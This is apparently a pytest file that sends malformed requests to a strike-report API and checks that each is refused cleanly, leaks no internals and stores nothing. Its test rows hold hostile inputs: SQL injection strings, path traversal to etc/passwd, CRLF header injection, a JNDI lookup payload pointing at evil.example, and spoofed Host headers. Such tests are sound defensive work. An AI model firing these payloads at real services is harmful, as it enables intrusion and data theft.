"""Bad requests, one row each: what is answered, that nothing of the inside shows, and that nothing was stored."""

import gzip
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest

from app.http.bodies import DEEPEST_JSON, LONGEST_JSON
from app.http.problems import Problem
from app.server.edge import LONGEST_HEADERS, LONGEST_URL
from tests.api import Api
from tests.conftest import ENGINES, ScratchDatabase, serving

# Nothing of the inside shows in a response.
LEAKS = ("Traceback", "sqlalchemy", "sqlite3", "psycopg", "SELECT ", ".py", "/app/", "site-packages")

# Seconds that a refusal may take, on a machine that does much else.
SOON = 2.0

JSON = {"Content-Type": "application/json"}
REPORT = b'{"publisher": "cjtf-oir", "published_on": "2017-03-02", "strikes": []}'


@dataclass(frozen=True)
class Row:
    """A request and what is answered to it. `keyed` sends a valid key that may publish."""

    name: str
    status: int
    slug: str
    method: str = "GET"
    path: str = "/v1/strikes"
    headers: Any = field(default_factory=dict)
    content: bytes | None = None
    keyed: bool = False


def asked(name: str, query: str, status: int = 422, slug: str = "validation-failed") -> Row:
    """Make the row of a list asked with a bad query."""
    return Row(name, status, slug, path=f"/v1/strikes?{query}")


def posted(
    name: str, content: bytes, status: int = 422, slug: str = "validation-failed", **headers: str
) -> Row:
    """Make the row of a report posted with a valid key and a bad body."""
    given = {key.replace("_", "-"): value for key, value in headers.items()}
    return Row(name, status, slug, "POST", "/v1/reports", JSON | given, content, keyed=True)


def with_count(number: bytes) -> bytes:
    """Write a report with one line whose strikes are `number`, as it is written."""
    line = b'{"date_from": "2017-03-01", "country": "SY", "location": "Raqqa", "strikes": %b}' % number
    return REPORT.replace(b"[]", b"[%b]" % line)


MALFORMED = (400, "malformed-request")
WRONG_KEY = (401, "unauthenticated")
MISDIRECTED = (400, "misdirected-host")

QUERIES = [
    asked("a limit below one", "limit=-1"),
    asked("a limit beyond the most", "limit=1000000000"),
    asked("a limit of five thousand digits", "limit=" + "9" * 5_000),
    asked("a limit in other digits", "limit=%D9%A3"),
    asked("a mistyped parameter", "lmit=5"),
    asked("a doubled parameter", "limit=5&limit=5"),
    asked("a day that is none", "date_from=0000-00-00"),
    asked("a day before all", "date_from=-0001-01-01"),
    asked("a day after all", "date_from=10000-01-01"),
    asked("an instant for a day", "date_from=2016-01-01T00:00:00"),
    asked("a plus that was not escaped", "as_of=2016-01-01T00:00:00+00:00"),
    asked("a leap second", "as_of=2016-12-31T23:59:60Z"),
    asked("a query that is not UTF-8", "q=%ff%fe", *MALFORMED),
    asked("a query that holds NUL", "location=a%00b"),
    asked("an order by SQL", "sort=(select%20api_key_hash%20from%20api_keys)"),
    asked("a column that is hidden", "sort=created_by"),
    asked("words of sixty thousand letters", "q=" + "a" * 60_000, 414, "uri-too-long"),
    asked("six thousand parameters", "&".join(f"p{n}=1" for n in range(6_000)), 414, "uri-too-long"),
    asked("as many parameters as fit", "&".join(f"p{n}=" for n in range(1_000)), 422),
    asked("one wrong parameter a thousand times", "&".join(["wrong=1"] * 1_000), 422),
    Row("a group by SQL", 422, "validation-failed", path="/v1/aggregates?group_by=1;--"),
    Row("a group with a quote", 422, "validation-failed", path="/v1/aggregates?group_by=location%22"),
    Row("an id over 64 bits", 404, "not-found", path="/v1/reports/r9223372036854775808"),
    Row("a path out of the tree", 404, "not-found", path="/v1/reports/..%2f..%2fetc%2fpasswd"),
    Row("a path with dots escaped", 404, "not-found", path="/v1/reports/%2e%2e%2f"),
    Row("a path with a semicolon", 404, "not-found", path="/v1/reports/..;/"),
    Row("a path with NUL", 404, "not-found", path="/v1/reports/%00"),
    Row("a path with a line break", 404, "not-found", path="/v1/reports/%0d%0aSet-Cookie:x=1"),
    Row("a path that is not UTF-8", *MALFORMED, path="/v1/locations/%ff%fe"),
    Row("a method for loops", 405, "method-not-allowed", "TRACE"),
    Row("a method of nobody", 405, "method-not-allowed", "FOO"),
    Row("a write by GET", 405, "method-not-allowed", path="/v1/parse"),
]

BODIES = [
    posted("an empty body", b"", *MALFORMED),
    posted("a blank body", b" \n", *MALFORMED),
    posted("null", b"null"),
    posted("a list", b"[]"),
    posted("a string", b'"x"'),
    posted("a number", b"1"),
    posted("NaN", with_count(b"NaN"), *MALFORMED),
    posted("infinity", with_count(b"-Infinity"), *MALFORMED),
    posted("a number beyond all", with_count(b"1e999")),
    posted("an integer of 64 bits", with_count(b"9223372036854775808")),
    posted("an integer of 32 bits", with_count(b"2147483648")),
    posted("an integer of five thousand digits", with_count(b"9" * 5_000)),
    posted("a count below nothing", with_count(b"-1")),
    posted("a count as a fraction", with_count(b"-0.0")),
    posted("a count as text", with_count(b'"5"')),
    posted("a count as a truth", with_count(b"true")),
    posted("a count in other digits", with_count('"\N{ARABIC-INDIC DIGIT FIVE}"'.encode())),
    posted("a lone surrogate", REPORT.replace(b'"cjtf-oir"', rb'"\ud800"')),
    posted("NUL, escaped", REPORT.replace(b'"cjtf-oir"', rb'"a\u0000b"')),
    posted("NUL, as it is", REPORT.replace(b'"cjtf-oir"', b'"a\0b"'), *MALFORMED),
    posted("a byte order mark", b"\xef\xbb\xbf" + REPORT, *MALFORMED),
    posted("UTF-16", REPORT.decode().encode("utf-16"), *MALFORMED),
    posted("Latin-1", REPORT.replace(b"cjtf", b"\xe9"), *MALFORMED),
    posted("brackets without end", b"[" * 100_000, *MALFORMED),
    posted("objects without end", b'{"a":' * 5_000, *MALFORMED),
    posted("one level too deep", b"[" * (DEEPEST_JSON + 1) + b"]" * (DEEPEST_JSON + 1), *MALFORMED),
    posted("a field named twice", REPORT.replace(b"{", b'{"publisher": "centcom", '), *MALFORMED),
    posted("a field of the server", REPORT.replace(b"{", b'{"revision": 7, ')),
    posted("a field of nobody", REPORT.replace(b"{", b'{"is_admin": true, ')),
    posted("a day in the calendar of nobody", REPORT.replace(b"2017-03-02", b"2016-02-30")),
    posted("a title of ten megabytes", b'"' + b"a" * 10_000_000 + b'"', 413, "payload-too-large"),
    posted("one byte too many", b" " * (LONGEST_JSON + 1), 413, "payload-too-large"),
    posted("UTF-16, declared", REPORT, 415, "unsupported-media-type", Content_Type="application/json; charset=utf-16"),
    posted("Latin-1, declared", REPORT, 415, "unsupported-media-type", Content_Type="application/json; charset=latin1"),
    posted("a form", b"a=b", 415, "unsupported-media-type", Content_Type="application/x-www-form-urlencoded"),
    posted("text", REPORT, 415, "unsupported-media-type", Content_Type="text/plain"),
    posted("compressed", gzip.compress(REPORT), 415, "unsupported-media-type", Content_Encoding="gzip"),
    Row("nothing at all", *MALFORMED, "POST", "/v1/reports", keyed=True),
    Row("a compressed release", 415, "unsupported-media-type", "POST", "/v1/parse",
        {"Content-Type": "text/plain", "Content-Encoding": "br"}, b"x"),
    Row("a bad body without a key", *WRONG_KEY, "POST", "/v1/reports", JSON, b"{"),
    Row("a huge body without a key", *WRONG_KEY, "POST", "/v1/reports", JSON, b" " * (LONGEST_JSON + 1)),
]  # fmt: skip


def keyed(name: str, *values: bytes) -> Row:
    """Make the row of a write with these Authorization headers."""
    headers = [(b"Content-Type", b"application/json"), *((b"Authorization", value) for value in values)]
    return Row(name, *WRONG_KEY, "POST", "/v1/reports", headers, REPORT)


HEADERS = [
    keyed("no key"),
    keyed("a key of nobody", b"Bearer sl_nobody"),
    keyed("another scheme", b"Basic c2w6c2w="),
    keyed("a scheme alone", b"Bearer"),
    keyed("a key that is SQL", b"Bearer ' OR '1'='1"),
    keyed("a key beyond Latin-1", "Bearer sl_ключ".encode()),
    keyed("a key that is no text", b"Bearer sl_\xff\xfe"),
    Row("two keys, also for a read", *WRONG_KEY, headers=[("Authorization", "Bearer a")] * 2),
    Row("a Host of somebody else", *MISDIRECTED, headers={"Host": "evil.example"}),
    Row("a Host that ends like ours", *MISDIRECTED, headers={"Host": "localhost.evil.example"}),
    Row("a Host with a path", *MISDIRECTED, headers={"Host": "a/b?c#@d"}),
    Row("a Host with a user", *MISDIRECTED, headers={"Host": "evil@localhost"}),
    Row("a port beyond all", *MISDIRECTED, headers={"Host": "[::1]:99999"}),
    Row("a port that is none", *MISDIRECTED, headers={"Host": "localhost:http"}),
    Row("an empty Host", *MISDIRECTED, headers={"Host": ""}),
    Row("two Hosts", *MISDIRECTED, headers=[("Host", "localhost"), ("Host", "localhost")]),
    Row("a header too long", 431, "headers-too-large", headers={"X-Long": "a" * LONGEST_HEADERS}),
    Row("too many headers", 431, "headers-too-large", headers=[(f"X-{n}", "a") for n in range(2_000)]),
    Row("a URL too long", 414, "uri-too-long", path="/" + "a" * LONGEST_URL),
    Row("a preflight for a write", 403, "forbidden", "OPTIONS", "/v1/reports/r1",
        {"Origin": "https://evil.example", "Access-Control-Request-Method": "DELETE"}),
]  # fmt: skip


@pytest.fixture(scope="module", params=ENGINES)
def record(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    """One record for all rows, on either engine: none of them changes it."""
    if request.param == "sqlite":
        path = tmp_path_factory.mktemp("refusals") / "strikeledger.db"
        path.write_bytes(request.getfixturevalue("sqlite_template").read_bytes())
        with serving(f"sqlite:///{path}") as api:
            yield api
    else:
        template = request.getfixturevalue("postgresql_template")
        server = request.getfixturevalue("postgresql_url")
        with ScratchDatabase(server, template) as url, serving(url) as api:
            yield api


@pytest.mark.parametrize("row", [*QUERIES, *BODIES, *HEADERS], ids=lambda row: row.name)
def test_bad_request_is_refused(record: Api, row: Row) -> None:
    """Each row has its status and type, soon, as a whole problem, with nothing of the inside, and stores nothing."""
    headers = list(dict(row.headers).items()) if isinstance(row.headers, dict) else list(row.headers)
    if row.keyed:
        headers.append(("Authorization", f"Bearer {record.key}"))
    began = time.monotonic()
    response = record.request(row.method, row.path, headers=headers, content=row.content)
    took = time.monotonic() - began

    assert (response.status_code, response.json()["type"]) == (row.status, f"/problems/{row.slug}")
    assert response.headers["Content-Type"] == "application/problem+json"
    assert Problem.model_validate(response.json()).status == row.status
    assert took < SOON
    assert [leak for leak in LEAKS if leak in response.text] == []
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "set-cookie" not in response.headers
    assert record.read("/v1/ledger")["seq"] == 1
    assert record.read("/v1/reports")["items"] == []


@pytest.mark.parametrize(
    "host", ["localhost", "LOCALHOST", "localhost:1", "127.0.0.1:8000", "[::1]", "[::1]:65535", "localhost:"]
)
def test_this_machine_is_a_host(record: Api, host: str) -> None:
    """The names of this machine are answered with any port and in any case."""
    assert record.request("GET", "/healthz", headers={"Host": host}).status_code == 200


@pytest.mark.parametrize(
    "headers",
    [
        {"Range": "bytes=0-0,0-0,0-0"},
        {"Range": "bytes=9-1"},
        {"User-Agent": "${jndi:ldap://evil.example/a}"},
        {"X-Forwarded-Host": "evil.example"},
        {"Content-Encoding": "gzip"},
    ],
    ids=str,
)
def test_header_that_means_nothing_here_changes_nothing(record: Api, headers: dict[str, str]) -> None:
    """A read with a header that is of no use to it is answered as without."""
    plain = record.request("GET", "/v1/locations?limit=5")
    odd = record.request("GET", "/v1/locations?limit=5", headers=headers)
    assert (odd.status_code, odd.content, odd.headers.get("Link")) == (
        200,
        plain.content,
        plain.headers["Link"],
    )


def test_deepest_body_is_read(record: Api) -> None:
    """A body as deep as may be is read, and refused for what it is."""
    deepest = "[" * DEEPEST_JSON + "]" * DEEPEST_JSON
    headers = {"Authorization": f"Bearer {record.key}", **JSON}
    response = record.request("POST", "/v1/reports", content=deepest, headers=headers)
    assert response.status_code == 422


def test_refused_value_is_pointed_at(record: Api) -> None:
    """What no database can hold is named by its place in the body."""
    headers = {"Authorization": f"Bearer {record.key}", **JSON}
    response = record.request("POST", "/v1/reports", content=with_count(b"1e999"), headers=headers)
    assert response.json()["errors"] == [
        {
            "pointer": "/strikes/0/strikes",
            "code": "too-large-number",
            "detail": "is too large a number",
        }
    ]
